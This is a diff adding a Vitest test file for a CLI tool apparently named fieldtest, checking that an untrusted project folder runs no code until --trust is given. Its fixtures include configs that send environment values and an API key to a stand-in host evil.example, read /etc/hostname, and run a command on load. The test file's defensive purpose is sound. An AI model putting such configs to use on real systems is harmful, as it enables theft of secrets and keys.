@@ -1,0 +1,85 @@
+/** A project folder from somebody else does nothing to this machine before the user says yes. */
+import { describe, expect, test } from 'vitest';
+import { freshProject, jsonl } from '../fixtures/project.ts';
+
+const MODULE =
+  "import { writeFileSync } from 'node:fs';\nwriteFileSync('ran', '');\nexport const run = () => 'x';\n";
+const SET = jsonl([{ input: 'question' }]);
+const yaml = (candidate: string) => `task: t\ncandidates:\n  - ${candidate}\n`;
+
+describe('without --trust', () => {
+  test.each([
+    ['a module', yaml('{ name: m, run: file://m.mjs }'), /m: runs m\.mjs/],
+    ['a command', yaml('{ name: c, command: "touch ran" }'), /c: runs `touch ran`/],
+    [
+      'a secret sent by an endpoint',
+      yaml('{ name: h, http: { url: "https://evil.example/x", headers: { a: "{{env.HOME}}" } } }'),
+      /h: sends \{\{env\.HOME\}\} to https:\/\/evil\.example/,
+    ],
+    [
+      'a key sent elsewhere',
+      yaml('{ name: k, model: "openai:gpt", baseUrl: "https://evil.example/v1", apiKeyEnv: SECRET }'),
+      /k: sends SECRET to https:\/\/evil\.example/,
+    ],
+    [
+      'a file outside of the folder',
+      yaml('{ name: p, model: "openai:gpt", prompt: "file:///etc/hostname" }'),
+      /p: reads \/etc\/hostname/,
+    ],
+  ])('%s is refused and named', async (_what, config, fact) => {
+    await using project = await freshProject(
+      { 'fieldtest.yaml': config, 'm.mjs': MODULE, 'set.jsonl': SET },
+      { SECRET: 'sk-1' },
+    );
+    await project.run('examples', 'import', 'set.jsonl');
+    const { code, stderr } = await project.run('run');
+    expect(code).toBe(1);
+    expect(stderr).toMatch(fact);
+    expect(stderr).toMatch(/--trust/);
+    await expect(project.read('ran')).rejects.toThrow();
+  });
+
+  test('a config that is code is not even read', async () => {
+    const config =
+      "import { writeFileSync } from 'node:fs';\nwriteFileSync('ran', '');\nexport default { task: 't', candidates: [{ name: 'c', command: 'cat' }] };\n";
+    await using project = await freshProject({ 'fieldtest.config.ts': config });
+    const { code, stderr } = await project.run('status');
+    expect(code).toBe(1);
+    expect(stderr).toMatch(/runs fieldtest\.config\.ts/);
+    await expect(project.read('ran')).rejects.toThrow();
+    expect(await project.json('status', '--trust')).toMatchObject({ task: 't' });
+  });
+
+  test('everything that runs no code works: status, import, pick, decide', async () => {
+    await using project = await freshProject({
+      'fieldtest.yaml': yaml('{ name: m, run: file://m.mjs }'),
+      'm.mjs': MODULE,
+      'log.jsonl': SET,
+    });
+    for (const command of [['status'], ['import', 'log.jsonl'], ['pick'], ['examples', 'export']]) {
+      expect(await project.run(...command), command.join(' ')).toMatchObject({ code: 0 });
+    }
+    await expect(project.read('ran')).rejects.toThrow();
+  });
+});
+
+describe('trust that was given', () => {
+  test('by init for what its flags named lasts until the code changes', async () => {
+    await using project = await freshProject({ 'm.mjs': MODULE, 'set.jsonl': SET });
+    await project.run('init', '--task', 't', '--run', 'm.mjs');
+    await project.run('examples', 'import', 'set.jsonl');
+    expect(await project.run('run')).toMatchObject({ code: 0 });
+    await project.write('m.mjs', `${MODULE}// changed by somebody\n`);
+    expect((await project.run('run')).stderr).toMatch(/runs m\.mjs/);
+    expect(await project.run('run', '--trust')).toMatchObject({ code: 0 });
+  });
+
+  test('by FIELDTEST_TRUST=1 holds for that call', async () => {
+    await using project = await freshProject(
+      { 'fieldtest.yaml': yaml('{ name: m, run: file://m.mjs }'), 'm.mjs': MODULE, 'set.jsonl': SET },
+      { FIELDTEST_TRUST: '1' },
+    );
+    await project.run('examples', 'import', 'set.jsonl');
+    expect(await project.run('run')).toMatchObject({ code: 0 });
+  });
+});
